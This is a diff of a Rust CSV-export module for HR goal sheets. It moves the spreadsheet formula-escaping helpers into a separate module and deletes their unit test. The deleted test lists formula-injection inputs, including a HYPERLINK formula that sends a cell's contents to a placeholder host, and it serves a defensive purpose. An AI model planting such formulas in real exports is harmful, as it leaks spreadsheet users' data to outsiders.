@@ -8,49 +8,17 @@
 //! `text` is the item's lines as in the text block (filled), joined by line feeds;
 //! `source` names the canon fields they quote, e.g. `responsibilities[0]; rubrics."knowledge-application"`.
 //!
-//! **Cells are never formulas.** A cell a spreadsheet would run as a formula
-//! (starting with `=`, `+`, `-`, `@`, a tab or a carriage return) is written
-//! with a leading apostrophe, which Excel, LibreOffice and Google Sheets show
-//! as text and do not display; a cell that already starts with apostrophes
-//! before such a character gets one more, so that [`unescape_cell`] restores
-//! every value exactly ([`safe_cell`]).
+//! **Cells are never formulas**: every cell is written through
+//! [`safe_cell`] and read back through [`unescape_cell`] ([`crate::cells`]).
 
-use std::borrow::Cow;
-
+use crate::cells::write_safe;
 use crate::frame::{Field, FrameKind, ProfileFrames, SlotKind};
 use crate::render::text;
 use crate::render::ExportInfo;
 use crate::values::Values;
 
-/// True when a spreadsheet would read a cell starting this way as a formula.
-fn starts_formula(text: &str) -> bool {
-    text.trim_start_matches('\'')
-        .starts_with(['=', '+', '-', '@', '\t', '\r'])
-}
-
-/// A cell as written: prefixed with `'` when a spreadsheet would run it as a formula.
-pub fn safe_cell(text: &str) -> Cow<'_, str> {
-    if starts_formula(text) {
-        Cow::Owned(format!("'{text}"))
-    } else {
-        Cow::Borrowed(text)
-    }
-}
-
-/// A cell as read back: [`safe_cell`] undone.
-pub fn unescape_cell(text: &str) -> &str {
-    match text.strip_prefix('\'') {
-        Some(rest) if starts_formula(rest) => rest,
-        _ => text,
-    }
-}
-
-/// Writes one record, every cell made safe.
-pub(crate) fn write_safe<W: std::io::Write>(writer: &mut ::csv::Writer<W>, cells: &[&str]) {
-    writer
-        .write_record(cells.iter().map(|c| safe_cell(c).into_owned()))
-        .expect("writing to memory");
-}
+/// The cell rule, kept here too (its home is [`crate::cells`]).
+pub use crate::cells::{safe_cell, unescape_cell};
 
 /// The header row.
 pub const COLUMNS: [&str; 13] = [
@@ -146,8 +114,10 @@ fn field_path(field: &Field) -> Option<String> {
 /// cell, unfilled slots empty.
 ///
 /// Columns ([`GOAL_COLUMNS`]): employee, period, goal (what it says), description
-/// (its filled lines, joined by ` | `, unfilled slots as `—`), framework (`SMART`, `OKR`, `MBO`,
-/// `Balanced Scorecard`, `Own goal`), item (its key), weight (percent),
+/// (its filled lines, joined by ` | `, each led by its label, unfilled slots as
+/// `—` after a label or named, `target —`), framework (`SMART`, `OKR`, `MBO`,
+/// `Balanced Scorecard`, `Development`, `Own goal`, `No longer in the canon`),
+/// item (its key), weight (percent),
 /// baseline, target, due_date (the period end when not set for the goal),
 /// source (its provenance, or "Your own goal — not from the canon"), canon,
 /// canon_version.
@@ -164,12 +134,19 @@ pub fn goal_sheet(goals: &crate::goals::GoalSheet<'_>) -> String {
         .unwrap_or_default();
     for row in &goals.rows {
         let weight = row.weight.map(|w| w.to_string()).unwrap_or_default();
-        // An HR system stores what it reads: no ⟨target⟩ placeholders, a dash instead.
-        let description = goals.description_with(row, Some("—"));
+        // An HR system stores what it reads: no ⟨target⟩ placeholders, a
+        // dash that says what it stands for instead.
+        let description = goals.description(row, crate::goals::Unfilled::Dash);
+        // A goal the canon no longer has has no text: its label says so.
+        let goal = if row.is_gone() {
+            &row.label
+        } else {
+            &row.headline
+        };
         let cells = [
             sheet.person.as_deref().unwrap_or(""),
             period.as_str(),
-            row.headline.as_str(),
+            goal.as_str(),
             description.as_str(),
             row.framework.name(),
             row.key.as_str(),
@@ -277,36 +254,4 @@ pub fn read_values(text: &str) -> Result<ReadBack, String> {
         level,
         values,
     })
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn formula_cells_are_text_and_read_back_exactly() {
-        for value in [
-            "=1+1",
-            "+2+3",
-            "-4+5",
-            "@SUM(1+1)",
-            "\t=1",
-            "\r=1",
-            "=HYPERLINK(\"http://x?leak=\"&A2,\"click\")",
-            "'=1",
-            "''@x",
-            "plain",
-            "'quoted'",
-            "",
-        ] {
-            let written = safe_cell(value);
-            assert!(
-                !written.starts_with(['=', '+', '-', '@', '\t', '\r']),
-                "{value:?}"
-            );
-            assert_eq!(unescape_cell(&written), value);
-        }
-        assert_eq!(safe_cell("=1+1"), "'=1+1");
-        assert_eq!(safe_cell("plain"), "plain");
-    }
 }
